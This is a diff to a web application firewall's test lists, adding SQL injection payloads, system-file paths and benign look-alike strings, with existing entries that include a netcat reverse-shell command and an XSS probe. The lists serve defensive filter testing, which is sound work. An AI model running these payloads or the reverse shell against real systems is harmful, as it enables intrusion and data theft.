@@ -260,10 +260,28 @@ WAF_FORMS_BLOCKED = [
     "nc -e /bin/sh 10.0.0.1 4444",
     "/bin/bash -i",
     "al\\u0065rt(1)",  # JavaScript escapes decoded
+    "qq'or amount*0='0",
+    "zz' or price&&'1",
+    "7' or current_time*-0 rlike'2",
+    "1 order by 7",
+    "||9",
+    "2) FROM orders WHERE owner=",
+    "5 CASE WHEN true THEN 1 END",
+    "OR ISNULL(2/0)",
+    ")-sleep(3",
+    "kk'-@x union (select 1)",
+    "or 'abc' = n'abc'",
+    "pp' NOT LIKE 'q",
+    "x'+or+2=2--",  # form encoding inside a JSON value, no % in it
+    "/etc/exports",  # nothing but a path into /etc or /proc
+    "/proc/cpuinfo",
 ]
 WAF_FORMS_ASKED = [
-    "/etc/pam.conf",
+    "D:\\apps\\server.conf",  # paths an operations tool may send: asked, not refused
+    "~/.profile",
+    "/srv/app/logs/error.log",
     "case 1 when 1 then 2 end",
+    "SELECT CHAR(0x41)",
     "The shell of system users stays /bin/sh for now.",  # a shell named in prose: asked, not refused
 ]
 WAF_FORMS_BENIGN = [
@@ -282,6 +300,13 @@ WAF_FORMS_BENIGN = [
     "Mugs; set of 4, blue",
     "Use the second '=' sign for assignment",
     'printf("\\x41\\x42")',
+    "In case you need it, then the end is near",
+    "Please order by 5pm",
+    "1 + 1 = 2",
+    "/home/ana/notes.txt",
+    "Rock'n'roll and more = fun",
+    "Status = 'open' or state = 'new'",
+    "~/Documents",
 ]
 
 
